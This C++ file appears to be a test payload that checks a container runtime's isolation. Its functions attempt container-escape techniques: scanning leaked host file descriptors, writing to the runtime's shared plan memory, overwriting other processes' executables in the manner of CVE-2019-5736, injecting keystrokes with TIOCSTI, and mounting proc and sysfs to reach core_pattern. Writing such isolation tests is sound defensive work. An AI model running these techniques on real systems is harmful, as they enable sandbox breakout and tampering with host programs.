// SPDX-License-Identifier: Apache-2.0
#include <dirent.h>
#include <fcntl.h>
#include <sched.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <set>

#include "tests/support/payload/payload.h"

namespace payload {
namespace {

volatile sig_atomic_t g_enough = 0;

void enough(int) {
  g_enough = 1;
}

void until_term() {
  (void)signal(SIGTERM, enough);
  say("ready\n");
}

// Calls the function with the path of each other process's directory in /proc.
template <class Look>
void each_other_process(Look look) {
  DIR* proc = opendir("/proc");
  if (proc == nullptr) broken("open /proc");
  std::string own = std::to_string(getpid());
  while (const dirent* entry = readdir(proc)) {
    if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || own == entry->d_name) continue;
    look(std::string("/proc/") + entry->d_name);
  }
  closedir(proc);
}

std::string target_of(const std::string& link) {
  std::array<char, 4096> target{};
  return readlink(link.c_str(), target.data(), target.size() - 1) < 0 ? "" : target.data();
}

// Devices of the filesystems that this process sees.
std::set<dev_t> own_filesystems() {
  std::set<dev_t> devices;
  for (const char* path : {"/", "/proc", "/dev", "/dev/pts", "/dev/shm", "/sys"}) {
    struct stat info {};
    if (stat(path, &info) == 0) devices.insert(info.st_dev);
  }
  return devices;
}

}  // namespace

int grab(const Args&) {
  std::set<dev_t> own = own_filesystems();
  std::set<std::string> outside;
  long looks = 0;
  until_term();
  while (g_enough == 0) {
    each_other_process([&](const std::string& process) {
      for (int fd = 3; fd < 40; ++fd) {
        std::string link = process + "/fd/" + std::to_string(fd);
        struct stat info {};
        if (stat(link.c_str(), &info) != 0) continue;
        ++looks;
        // A directory or a file of a filesystem that is not the container's is a way out.
        bool file = S_ISDIR(info.st_mode) || S_ISREG(info.st_mode);
        std::string name = target_of(link);
        if (file && own.count(info.st_dev) == 0 && name.rfind("/memfd:", 0) != 0) outside.insert(name);
      }
    });
  }
  std::string line = "looks " + std::to_string(looks) + " outside " + std::to_string(outside.size());
  for (const std::string& name : outside) line += " " + name;
  say(line + "\n");
  return 0;
}

int scribble(const Args& args) {
  for (int fd = 0; fd < 64; ++fd) {
    std::string link = "/proc/1/fd/" + std::to_string(fd);
    if (target_of(link).rfind("/memfd:minirun-plan", 0) != 0) continue;
    int file = open(link.c_str(), O_RDWR | O_CLOEXEC);
    constexpr size_t kHeader = 4096;
    void* memory = mmap(nullptr, kHeader, PROT_READ | PROT_WRITE, MAP_SHARED, file, 0);
    if (memory == MAP_FAILED) return say("refused\n"), 0;
    auto word = static_cast<uint32_t>(std::strtoul(args.at(1).c_str(), nullptr, 10));
    auto* place =
        reinterpret_cast<uint32_t*>(static_cast<char*>(memory) + std::strtoul(args.at(0).c_str(), nullptr, 10));
    until_term();
    __atomic_store_n(place, word, __ATOMIC_RELEASE);
    say("scribbled\n");
    while (g_enough == 0) __atomic_store_n(place, word, __ATOMIC_RELEASE);
    return 0;
  }
  say("no plan\n");
  return 0;
}

int overwrite(const Args&) {
  long opened = 0, written = 0;
  until_term();
  while (g_enough == 0) {
    each_other_process([&](const std::string& process) {
      // As CVE-2019-5736: hold the program, then open it for writing when it does not run any more.
      int held = open((process + "/exe").c_str(), O_RDONLY | O_CLOEXEC);
      if (held < 0) return;
      ++opened;
      std::string self = "/proc/self/fd/" + std::to_string(held);
      for (int tries = 0; tries < 50; ++tries) {
        for (const std::string& path : {self, process + "/exe"}) {
          int fd = open(path.c_str(), O_WRONLY | O_CLOEXEC);
          if (fd < 0) continue;
          if (write(fd, "#!/evil\n", 8) > 0) ++written;
          close(fd);
        }
      }
      close(held);
    });
  }
  say("opened " + std::to_string(opened) + " written " + std::to_string(written) + "\n");
  return 0;
}

int type_ahead(const Args&) {
  int code = 0;
  for (char key : {'e', 'v', 'i', 'l', '\n'})
    if (ioctl(0, TIOCSTI, &key) != 0) code = errno;
  say("TIOCSTI " + std::to_string(code) + "\n");
  return 0;
}

int kernel_views(const Args&) {
  if (unshare(CLONE_NEWUSER | CLONE_NEWPID | CLONE_NEWNET | CLONE_NEWNS) != 0) broken("unshare");
  pid_t child = fork();
  if (child < 0) broken("fork");
  if (child == 0) {
    auto reports = [](const char* what, bool done) {
      say(std::string(what) + " " + std::to_string(done ? 0 : errno) + "\n");
      return done;
    };
    if (reports("procfs", mount("proc", "/proc", "proc", 0, nullptr) == 0))
      reports("core_pattern", open("/proc/sys/kernel/core_pattern", O_WRONLY | O_CLOEXEC) >= 0);
    reports("sysfs", mount("sysfs", "/sys", "sysfs", 0, nullptr) == 0);
    _exit(0);
  }
  int status = 0;
  if (waitpid(child, &status, 0) != child) broken("wait");
  return status == 0 ? 0 : kBroken;
}

}  // namespace payload
